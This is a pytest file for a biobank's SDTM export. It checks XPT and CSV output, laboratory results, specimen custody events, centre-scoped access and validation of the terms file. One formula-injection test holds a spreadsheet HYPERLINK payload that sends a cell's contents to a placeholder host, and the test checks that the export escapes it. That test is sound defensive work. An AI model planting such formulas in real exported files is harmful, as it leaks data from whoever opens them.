"""The SDTM export: the XPT files read back with their variables, types, lengths and
labels; LB holding exactly the results the API gives; BE, BS and RELSPEC from each
specimen's record and custody log; a centre's user exporting that centre only; the same
bytes for the same database; the command line; the terms file checked when read."""

from __future__ import annotations

import csv
import html
import io
import math
import re
import zipfile
from datetime import UTC, date, datetime, timedelta

import pyreadstat
import pytest

from biobank.assays import services
from biobank.errors import Invalid
from biobank.exports import sdtm, xport
from biobank.exports.datasets import (
    DATASETS,
    LB,
    MAX_LABEL,
    MAX_NAME,
    MAX_TEXT,
    Table,
    ascii_text,
    iso_local,
    local_date,
    study_day,
)
from biobank.exports.terms import TERMS_FILE, TermsError, parse_terms, shipped_terms
from tests.answers import ok
from tests.exports.conftest import accept_sheet

CREATED = datetime(2026, 12, 1, 10, 0, tzinfo=UTC)
FILES = sorted(
    [f"{d.file_stem}.{ext}" for d in DATASETS for ext in ("xpt", "csv")] + ["define.html"]
)


def export(actor=None, created=CREATED) -> sdtm.Package:
    return sdtm.build(actor=actor, created=created)


def records(package: sdtm.Package, name: str) -> list[dict]:
    table = package.table(name)
    return [dict(zip(table.dataset.names, row, strict=True)) for row in table.rows]


def read_xpt(content: bytes, tmp_path, name: str):
    path = tmp_path / f"{name}.xpt"
    path.write_bytes(content)
    return pyreadstat.read_xport(str(path))


def lb_of(package, barcode: str, testcd: str = "VEGF") -> dict:
    (found,) = [
        r for r in records(package, "LB") if (r["LBREFID"], r["LBTESTCD"]) == (barcode, testcd)
    ]
    return found


def variables_in_define(define: str, dataset: str) -> dict[str, list[str]]:
    """The rows of a dataset's table of variables in the define document, by name."""
    section = define.split(f'<h2 id="{dataset}">', 1)[1].split("</table>", 1)[0]
    rows = [re.findall(r"<td>(.*?)</td>", row, re.S) for row in section.split("<tr>")[2:]]
    return {cells[0]: [html.unescape(c) for c in cells] for cells in rows}


# --- the transport files ----------------------------------------------------------------------


def test_every_dataset_reads_back_with_its_variables_types_lengths_and_labels(trial, tmp_path):
    package = export()

    assert sorted(package.files) == FILES
    define = package.files["define.html"].decode()
    for table in package.tables:
        dataset = table.dataset
        frame, meta = read_xpt(package.files[f"{dataset.file_stem}.xpt"], tmp_path, dataset.name)
        described = variables_in_define(define, dataset.name)
        assert meta.table_name == dataset.name and meta.file_label == dataset.label
        assert meta.column_names == dataset.names
        assert meta.column_labels == [v.label for v in dataset.variables]
        assert len(frame) == len(table.rows) > 0
        for variable in dataset.variables:
            assert len(variable.name) <= MAX_NAME and len(variable.label) <= MAX_LABEL
            kind = meta.readstat_variable_types[variable.name]
            assert kind == ("double" if variable.numeric else "string"), variable.name
            width = meta.variable_storage_width[variable.name]
            assert width == table.length(variable) <= MAX_TEXT, variable.name
            # The define document gives the same label, type and length.
            assert described[variable.name][:4] == [
                variable.name,
                variable.label,
                variable.kind,
                str(width),
            ]
        for written, read in zip(table.rows, frame.itertuples(index=False), strict=True):
            for variable, value, back in zip(dataset.variables, written, read, strict=True):
                if variable.numeric:
                    assert (value is None and math.isnan(back)) or back == value, variable.name
                else:
                    assert back == value, variable.name


def test_a_dataset_without_records_still_has_its_variables(db, sites, tmp_path):
    package = export()

    frame, meta = read_xpt(package.files["lb.xpt"], tmp_path, "LB")
    assert len(frame) == 0 and meta.column_names == LB.names
    assert package.files["lb.csv"].decode().splitlines() == [",".join(LB.names)]


def test_the_csv_files_hold_the_same_records(trial):
    package = export()

    for table in package.tables:
        rows = list(
            csv.reader(io.StringIO(package.files[f"{table.dataset.file_stem}.csv"].decode()))
        )
        assert rows[0] == table.dataset.names
        assert len(rows) == len(table.rows) + 1
        for written, line in zip(table.rows, rows[1:], strict=True):
            for value, text in zip(written, line, strict=True):
                if isinstance(value, float):
                    assert float(text) == value
                else:
                    assert text == ("" if value is None else str(value))


def test_a_csv_cell_that_could_start_a_formula_is_quoted():
    record = dict.fromkeys(LB.names, "")
    record.update(LBSEQ=1, LBSTRESN=None, VISITNUM=1, LBDY=1)
    record["LBORRES"] = '=HYPERLINK("http://x.example/?"&A2,"see")'
    record["LBREASND"] = "@SUM(A1)"
    record["LBSTRESC"] = "<15.6"
    table = Table.of(LB, [[record[name] for name in LB.names]])

    (line,) = list(csv.DictReader(io.StringIO(sdtm.csv_bytes(table).decode())))

    assert line["LBORRES"] == "'" + record["LBORRES"]
    assert line["LBREASND"] == "'@SUM(A1)"
    assert line["LBSTRESC"] == "<15.6"  # not a formula: written as it is


def test_text_is_folded_to_printable_ascii_of_at_most_200_characters():
    folded = ascii_text("Négatif — chaînes légères λ, 5 µL\tà 4 °C, « libre »")
    assert folded == 'Negatif - chaines legeres ?, 5 uL a 4 deg C, " libre "'
    assert ascii_text("x" * 250) == "x" * 200
    assert ascii_text("two\nlines") == "two lines"


# --- LB ---------------------------------------------------------------------------------------


def test_each_lb_record_is_the_reportable_result_the_api_gives_for_its_aliquot(trial, api_as):
    package = export()
    central = api_as("manager")
    terms = shipped_terms()

    lb = records(package, "LB")
    reportable_items = []
    for barcode in {r["LBREFID"] for r in lb} | trial.of("LIM-001") | trial.of("PAR-001"):
        items = ok(central.get(f"/api/v1/aliquots/{barcode}/results"))["items"]
        reportable_items += [i for i in items if i["reportable"]]
    assert len(lb) == len(reportable_items) == 8
    for item in reportable_items:
        term = terms.analytes[item["analyte"]]
        key = (item["barcode"], term.testcd, term.method)
        (record,) = [r for r in lb if (r["LBREFID"], r["LBTESTCD"], r["LBMETHOD"]) == key]
        assert record["LBSPID"] == item["run"]
        assert record["LBTEST"] == term.test and record["LBCAT"] == term.category
        assert record["LBSPEC"] == {"SER": "SERUM", "PL1": "PLASMA"}[item["sample_type"]]
        assert record["LBDTC"][:10] == item["collected_on"]
        assert (
            record["VISIT"] == {"BL": "Baseline", "M2": "Month 2 (after 2 cycles)"}[item["visit"]]
        )
        assert record["VISITNUM"] == {"BL": 1, "M2": 2}[item["visit"]]
        assert record["LBDY"] == item["study_day"] + 1  # inclusion is day 1, never day 0
        if item["value"] is not None and item["flag"] is None and item["comparator"] is None:
            assert record["LBORRES"] == item["shown"] == record["LBSTRESC"]
            # The value to its analyte's significant digits, as the API shows it.
            assert record["LBSTRESN"] == float(item["shown"])
            assert record["LBORRESU"] == record["LBSTRESU"] == term.unit == item["unit"]
        elif item["flag"] is not None:
            assert record["LBORRES"] == item["shown"].replace(" ", "", 1)
        elif item["text"] is not None:
            assert record["LBORRES"] == item["shown"]
        else:  # the plate gave no result
            assert (record["LBSTAT"], record["LBORRES"]) == ("NOT DONE", "")


def test_a_value_below_or_above_the_calibrated_range_is_its_limit_with_no_number(trial):
    package = export()

    low = lb_of(package, trial.aliquot("LIM-001", "M2"))
    assert (low["LBORRES"], low["LBSTRESC"], low["LBSTRESN"]) == ("<15.62", "<15.62", None)
    assert low["LBORRESU"] == low["LBSTRESU"] == "pg/mL" and low["LBSTAT"] == ""
    high = lb_of(package, trial.aliquot("LIM-001", "BL", "PL1"))
    assert (high["LBORRES"], high["LBSTRESC"], high["LBSTRESN"]) == (">1000", ">1000", None)
    assert high["LBSPEC"] == "PLASMA"


def test_a_sample_the_plate_gave_no_result_is_a_test_not_done(trial):
    package = export()

    unread = lb_of(package, trial.aliquot("PAR-001", "BL"))
    assert unread["LBSTAT"] == "NOT DONE"
    assert unread["LBREASND"].startswith("no result - no reading")
    assert (unread["LBORRES"], unread["LBSTRESC"], unread["LBSTRESN"]) == ("", "", None)
    assert unread["LBORRESU"] == unread["LBSTRESU"] == ""
    measured = lb_of(package, trial.aliquot("PAR-001", "M2"))
    assert (measured["LBSTAT"], measured["LBREASND"]) == ("", "")


def test_a_superseded_result_is_left_out_and_its_re_assay_is_the_record(trial):
    lb = records(export(), "LB")

    baseline = [
        r
        for r in lb
        if (r["USUBJID"], r["VISITNUM"], r["LBTESTCD"], r["LBSPEC"])
        == ("POEMS-LENDEX-LIM-001", 1, "VEGF", "SERUM")
    ]
    assert [(r["LBREFID"], r["LBORRES"]) for r in baseline] == [
        (trial.aliquot("LIM-001", "BL", n=1), "850")
    ]


def test_the_laboratory_results_carry_their_terms_units_and_methods(trial):
    package = export()
    m2 = trial.aliquot("LIM-001", "M2")

    spike = lb_of(package, trial.aliquot("LIM-001", "BL"), "MPROTEIN")
    # 1,2 g/dL in the laboratory's sheet, stored in the analyte's unit.
    assert (spike["LBORRES"], spike["LBORRESU"], spike["LBSTRESN"], spike["LBSTRESU"]) == (
        "12",
        "g/L",
        12.0,
        "g/L",
    )
    assert spike["LBMETHOD"] == "ELECTROPHORESIS"
    fixation = next(
        r
        for r in records(package, "LB")
        if r["LBREFID"] == m2 and r["LBMETHOD"] == "IMMUNOFIXATION ELECTROPHORESIS"
    )
    assert (fixation["LBTESTCD"], fixation["LBORRES"], fixation["LBSTRESC"]) == (
        "MPROTEIN",
        "positive IgA lambda",
        "POSITIVE",
    )
    assert fixation["LBSTRESN"] is None and fixation["LBORRESU"] == ""
    ratio = lb_of(package, m2, "KAPLAMB")
    assert (ratio["LBORRES"], ratio["LBSTRESN"], ratio["LBORRESU"], ratio["LBSTRESU"]) == (
        "0.05",
        0.05,
        "",
        "",
    )


def test_results_are_converted_into_the_standard_unit_of_their_term(trial):
    terms = parse_terms(_with('unit = "g/L"', 'unit = "g/dL"'))

    package = sdtm.build(actor=None, created=CREATED, terms=terms)

    spike = lb_of(package, trial.aliquot("LIM-001", "BL"), "MPROTEIN")
    assert (spike["LBORRES"], spike["LBORRESU"]) == ("12", "g/L")
    assert (spike["LBSTRESC"], spike["LBSTRESN"], spike["LBSTRESU"]) == ("1.2", 1.2, "g/dL")


def test_a_unit_that_cannot_be_converted_refuses_the_export_naming_the_analyte(trial):
    terms = parse_terms(_with('unit = "g/L"', 'unit = "IU/L"'))

    with pytest.raises(Invalid) as refused:
        sdtm.build(actor=None, created=CREATED, terms=terms)

    assert refused.value.code == "sdtm.unit"
    assert refused.value.fields == {"analyte": "M_SPIKE"}


def test_identifiers_sequence_and_collection_time_in_the_centre_time_zone(trial):
    lb = records(export(), "LB")

    assert {r["STUDYID"] for r in lb} == {"POEMS-LENDEX"} and {r["DOMAIN"] for r in lb} == {"LB"}
    assert {r["USUBJID"] for r in lb} == {"POEMS-LENDEX-LIM-001", "POEMS-LENDEX-PAR-001"}
    for subject in ("POEMS-LENDEX-LIM-001", "POEMS-LENDEX-PAR-001"):
        seq = [r["LBSEQ"] for r in lb if r["USUBJID"] == subject]
        assert seq == list(range(1, len(seq) + 1))
    # Drawn at 08:30 UTC on the day of inclusion, 09:30 in Paris (winter time).
    baseline = lb_of(export(), trial.aliquot("PAR-001", "M2"))
    assert baseline["LBDTC"] == "2026-03-02T09:30" and baseline["LBDY"] == 57


def test_study_day_one_is_the_inclusion_day_in_the_centre_time_zone():
    included = date(2026, 1, 5)
    assert study_day(included, included) == 1
    assert study_day(included - timedelta(days=1), included) == -1
    assert study_day(included + timedelta(days=1), included) == 2
    # 23:30 UTC the evening before is already the inclusion day in Paris, still the day
    # before in New York.
    late = datetime(2026, 1, 4, 23, 30, tzinfo=UTC)
    assert local_date(late, "Europe/Paris") == included
    assert iso_local(late, "Europe/Paris") == "2026-01-05T00:30"
    assert study_day(local_date(late, "America/New_York"), included) == -1
    # Summer time: UTC+2.
    assert iso_local(datetime(2026, 7, 1, 8, 30, tzinfo=UTC), "Europe/Paris") == "2026-07-01T10:30"


def test_an_analyte_without_a_term_refuses_the_export_naming_it(trial, db):
    services.declare_analyte("IL6", "Interleukin 6", "numeric", "pg/mL", actor=None)
    accept_sheet(
        [[trial.aliquot("LIM-001", "BL", n=4), "IL6", "12", "pg/mL", "ELISA", "", ""]], "il6.xlsx"
    )
    db.session.commit()

    with pytest.raises(Invalid) as refused:
        export()

    assert refused.value.code == "sdtm.unmapped_analyte"
    assert refused.value.fields == {"analyte": "IL6"}
    assert "IL6" in str(refused.value.message)


# --- BE, BS, RELSPEC --------------------------------------------------------------------------


def test_be_has_each_aliquot_custody_events_in_the_order_of_its_chain(trial, api_as):
    package = export()
    central = api_as("manager")
    exported = shipped_terms().custody_events
    be = records(package, "BE")

    for barcode in trial.of("LIM-001") | trial.of("PAR-001"):
        chain = ok(central.get(f"/api/v1/aliquots/{barcode}/custody"))["items"]
        expected = [exported[e["kind"]].decod for e in chain if e["kind"] in exported]
        assert [r["BEDECOD"] for r in be if r["BEREFID"] == barcode] == expected
    thawed = trial.aliquot("LIM-001", "BL", n=2)
    assert [r["BEDECOD"] for r in be if r["BEREFID"] == thawed] == [
        "ALIQUOTED", "STORED", "REMOVED FROM STORAGE", "RETURNED TO STORAGE",
    ]  # fmt: skip
    destroyed = trial.aliquot("LIM-001", "BL", n=3)
    assert [r["BEDECOD"] for r in be if r["BEREFID"] == destroyed][-1] == "DESTROYED"
    for subject in {r["USUBJID"] for r in be}:
        seq = [r["BESEQ"] for r in be if r["USUBJID"] == subject]
        assert seq == list(range(1, len(seq) + 1))


def test_be_dates_the_primary_tube_steps_from_its_record(trial):
    be = records(export(), "BE")

    steps = [r for r in be if r["BEREFID"] == "PAR-001-M2-SST"]
    # factories.tube: drawn 08:30 UTC, spun an hour later, frozen 30 minutes after that.
    assert [(r["BEDECOD"], r["BESTDTC"], r["BESTDY"]) for r in steps] == [
        ("COLLECTED", "2026-03-02T09:30", 57),
        ("CENTRIFUGED", "2026-03-02T10:30", 57),
        ("FROZEN", "2026-03-02T11:00", 57),
    ]
    assert {r["BECAT"] for r in steps} == {"PRE-ANALYTICAL PROCESSING"}
    assert {r["VISIT"] for r in steps} == {"Month 2 (after 2 cycles)"}


def test_bs_gives_each_aliquot_volume_and_thaws_and_each_tube_its_sprec_code(trial, db):
    bs = records(export(), "BS")
    thawed = trial.aliquot("LIM-001", "BL", n=2)

    found = {(r["BSREFID"], r["BSTESTCD"]): r for r in bs}
    volume = found[(thawed, "VOLUME")]
    assert (volume["BSORRES"], volume["BSORRESU"], volume["BSSTRESN"], volume["BSSPEC"]) == (
        "500",
        "uL",
        500,
        "SERUM",
    )
    assert found[(thawed, "FRZTHAW")]["BSSTRESN"] == 1
    assert found[(trial.aliquot("LIM-001", "BL", n=1), "FRZTHAW")]["BSSTRESN"] == 0
    sprec = found[("LIM-001-BL-SST", "SPREC")]
    assert sprec["BSORRES"].startswith("SER-SST-") and sprec["BSSTRESN"] is None
    assert sprec["BSSPEC"] == "BLOOD"


def test_relspec_links_each_aliquot_to_its_primary_tube(trial):
    relspec = records(export(), "RELSPEC")

    parents = {r["REFID"]: (r["PARENT"], r["LEVEL"], r["SPEC"]) for r in relspec}
    for (participant, visit, sample_type), barcodes in trial.tubes.items():
        tube = f"{participant}-{visit}-{'SST' if sample_type == 'SER' else 'EDTA'}"
        assert parents[tube] == ("", 1, "BLOOD")
        for barcode in barcodes:
            assert parents[barcode] == (tube, 2, "SERUM" if sample_type == "SER" else "PLASMA")
    assert len(relspec) == 8 + sum(len(b) for b in trial.tubes.values())


def test_an_aliquot_made_from_an_aliquot_is_one_level_below_it():
    times = dict.fromkeys(("collected_at", "received_at", "spun_at", "frozen_at"), CREATED)
    tube = sdtm.Tube(
        1, "POEMS-LENDEX", "LIM-001", date(2026, 1, 5), "Europe/Paris", "BL", "Baseline", 1,
        "SST", "SER-SST-A-B-N-B-D", CREATED, times,
    )  # fmt: skip
    first = sdtm.AliquotOfTube(10, "A1", None, "SER", 500, 0, tube)
    child = sdtm.AliquotOfTube(11, "A2", 10, "SER", 200, 0, tube)
    grandchild = sdtm.AliquotOfTube(12, "A3", 11, "SER", 100, 0, tube)

    rows = sdtm.relspec_records([first, child, grandchild], shipped_terms())

    assert [(r[2], r[4], r[5]) for r in rows] == [
        ("LIM-001-BL-SST", "", 1), ("A1", "LIM-001-BL-SST", 2), ("A2", "A1", 3), ("A3", "A2", 4),
    ]  # fmt: skip


# --- centres, reproducibility, command line ---------------------------------------------------


@pytest.mark.parametrize("centre, other", [("PAR", "LIM-001"), ("LIM", "PAR-001")])
def test_a_centre_user_exports_only_their_centre(trial, make_user, centre, other):
    package = export(actor=make_user("technician", site=centre))

    for table in package.tables:
        assert {u.split("-", 2)[2][:3] for u in table.column("USUBJID")} == {centre}
    text = b"".join(package.files.values()).decode("latin-1")
    for barcode in trial.of(other):
        assert barcode not in text
    assert other not in text


def test_the_same_database_gives_the_same_bytes(trial):
    first, again = export().zip_bytes(), export().zip_bytes()
    assert first == again

    later = export(created=CREATED + timedelta(days=1))
    differing = sorted(n for n, content in later.files.items() if content != export().files[n])
    assert differing == ["be.xpt", "bs.xpt", "define.html", "lb.xpt", "relspec.xpt"]
    for name in differing:
        if name.endswith(".xpt"):
            assert (
                later.files[name].replace(xport.stamp(later.created), xport.stamp(CREATED))
                == export().files[name]
            )
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert archive.namelist() == FILES


def test_the_command_line_writes_every_file_and_exits_0(app, trial, tmp_path):
    result = app.test_cli_runner().invoke(args=["export", "sdtm", str(tmp_path / "sdtm")])

    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in (tmp_path / "sdtm").iterdir()) == FILES
    frame, _ = read_xpt((tmp_path / "sdtm" / "lb.xpt").read_bytes(), tmp_path, "check")
    assert len(frame) == 8
    assert "LB: 8 records" in result.output


def test_the_command_line_refuses_an_analyte_without_a_term_and_writes_nothing(
    app, trial, db, tmp_path
):
    services.declare_analyte("IL6", "Interleukin 6", "numeric", "pg/mL", actor=None)
    accept_sheet(
        [[trial.aliquot("LIM-001", "BL", n=4), "IL6", "12", "pg/mL", "ELISA", "", ""]], "il6.xlsx"
    )
    db.session.commit()

    result = app.test_cli_runner().invoke(args=["export", "sdtm", str(tmp_path / "sdtm")])

    assert result.exit_code == 1
    assert "IL6" in result.output and "sdtm_terms.toml" in result.output
    assert not (tmp_path / "sdtm").exists()


# --- the terms file -------------------------------------------------------------------------


def test_the_shipped_terms_are_valid_and_cover_every_default_analyte():
    terms = parse_terms(TERMS_FILE.read_text(encoding="utf-8"))

    assert set(terms.analytes) >= {"VEGF", "M_SPIKE", "IFE", "FLC_KAPPA", "FLC_LAMBDA", "FLC_RATIO"}
    assert terms.analytes["VEGF"].testcd == "VEGF"
    assert terms.analytes["M_SPIKE"].testcd == terms.analytes["IFE"].testcd == "MPROTEIN"
    assert {"REGISTERED", "IMPORTED", "STORED", "SHIPPED", "RECEIVED", "DESTROYED"} <= set(
        terms.custody_events
    )
    assert [e.decod for e in terms.specimen_events] == ["COLLECTED", "CENTRIFUGED", "FROZEN"]


def _with(old: str, new: str) -> str:
    text = TERMS_FILE.read_text(encoding="utf-8")
    assert old in text
    return text.replace(old, new, 1)


@pytest.mark.parametrize(
    "old, new, where",
    [
        ('testcd = "VEGF"', 'testcd = "VEGFALONG"', "analytes.VEGF.testcd"),
        ('testcd = "VEGF"', 'testcd = "1VEGF"', "analytes.VEGF.testcd"),
        (
            'test = "Vascular Endothelial Growth Factor"',
            'test = "' + "x" * 41 + '"',
            "analytes.VEGF.test",
        ),
        ('unit = "pg/mL"', 'unit = "furlongs"', "analytes.VEGF.unit"),
        ('method = "ELECTROPHORESIS"', 'method = "IMMUNOFIXATION ELECTROPHORESIS"', "analytes.IFE"),
        ('kind = "STORED"', 'kind = "PUT_AWAY"', "custody_events[2].kind"),
        ('time = "spun_at"', 'time = "spun"', "specimen_events[1].time"),
        ("ct = true\n\n# The M-spike", 'ct = "yes"\n\n# The M-spike', "analytes.VEGF.ct"),
        ("[terminology]\nstandard", "[terminology]\nowner = 1\nstandard", "terminology.owner"),
        ('term = "Stored"', 'term = "Stocké"', "custody_events[2].term"),
    ],
)
def test_a_wrong_terms_file_is_refused_naming_the_entry(old, new, where):
    with pytest.raises(TermsError) as refused:
        parse_terms(_with(old, new))
    assert refused.value.path == where
